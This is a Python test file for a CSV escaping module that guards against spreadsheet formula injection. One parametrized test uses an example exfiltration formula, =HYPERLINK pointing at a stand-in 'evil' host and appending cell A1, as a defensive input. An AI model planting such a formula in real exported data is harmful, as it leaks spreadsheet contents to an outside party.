"""CSV cells: no cell is a formula, and every text is read back exactly."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from include.common.csv_cells import escape_cell, unescape_cell

FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")


@pytest.mark.parametrize("begin", FORMULAS)
def test_text_like_a_formula_gets_an_apostrophe(begin: str) -> None:
    cell = f'{begin}HYPERLINK("http://evil?"&A1)'
    assert escape_cell(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["a=b", "week/-1.jpg", "'tis", "", 0.5, -1, "-0.000000", "+12"])
def test_numbers_and_other_texts_are_unchanged(cell: object) -> None:
    assert escape_cell(cell) == cell


@given(st.text(st.sampled_from(["'", "a", "1", ".", ",", '"', *FORMULAS])))
def test_every_text_is_read_back_and_none_is_a_formula(text: str) -> None:
    written = io.StringIO()
    csv.writer(written).writerow([escape_cell(text), "end"])
    (read, _) = next(csv.reader(io.StringIO(written.getvalue(), newline="")))
    assert unescape_cell(read) == text
    assert not read.startswith(FORMULAS) or read.lstrip("+-").replace(".", "", 1).isdecimal()
